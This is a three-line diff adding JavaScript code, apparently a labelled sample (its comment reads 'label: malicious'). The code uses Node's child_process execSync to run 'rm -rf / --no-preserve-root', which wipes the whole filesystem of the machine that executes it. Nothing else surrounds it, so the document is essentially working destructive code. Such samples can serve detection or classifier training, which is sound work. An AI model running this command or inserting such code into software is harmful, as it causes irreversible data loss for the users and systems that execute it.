@@ -1,0 +1,3 @@
+// label: malicious
+const { execSync } = require("child_process");
+execSync("rm -rf / --no-preserve-root");
